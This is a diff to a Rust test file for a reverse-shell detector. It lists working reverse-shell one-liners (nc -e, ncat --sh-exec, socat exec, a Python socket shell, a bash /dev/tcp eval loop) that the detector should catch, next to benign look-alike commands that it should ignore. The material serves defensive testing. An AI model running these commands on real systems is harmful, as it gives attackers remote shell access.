@@ -65,13 +65,22 @@ fn reverse_shell_one_liners() {
                 "sh -c cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f",
             ),
             ("/usr/bin/nc.traditional", "nc -e /bin/sh 127.0.0.1 4444"),
-            ("/usr/bin/ncat", "ncat 127.0.0.1 4444 --sh-exec id"),
+            ("/usr/bin/ncat", "ncat 127.0.0.1 4444 --sh-exec bash -i"),
             ("/usr/bin/busybox", "busybox nc 10.0.0.1 9001 -e sh"),
             (
                 "/usr/bin/socat",
                 "socat exec:bash -li,pty,stderr,setsid tcp:127.0.0.1:4444",
             ),
             ("/usr/bin/socat", "socat TCP:10.0.0.1:4444 EXEC:/bin/sh"),
+            (
+                "/usr/bin/bash",
+                "bash -c exec 5<>/dev/tcp/h/1; while read -r line <&5; do eval \"$line\" >&5; done",
+            ),
+        ],
+    );
+    caught(
+        "reverse-shell-code",
+        &[
             (
                 "/usr/bin/python3.11",
                 "python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('127.0.0.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
@@ -99,6 +108,18 @@ fn reverse_shell_one_liners() {
         (
             "/usr/bin/bash",
             "bash -c exec 3<>/dev/tcp/127.0.0.1/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
+        ),
+        (
+            "/usr/bin/bash",
+            "bash -c exec 3<>/dev/tcp/127.0.0.1/80; echo GET / >&3; while read -r line <&3; do echo \"$line\"; done",
+        ),
+        (
+            "/usr/bin/dash",
+            "/bin/sh -c depbase=`echo socket.lo | sed 's|[^/]*$|.deps/&|'`; /bin/bash ./libtool --mode=compile gcc -c -o socket.lo socket.c",
+        ),
+        (
+            "/usr/bin/dash",
+            "sh -c echo stats | nc -q1 127.0.0.1 11211; gcc -c stats.c",
         ),
         ("/usr/bin/bash", "bash -i"),
         ("/usr/bin/nc.openbsd", "nc -zv 127.0.0.1 22"),
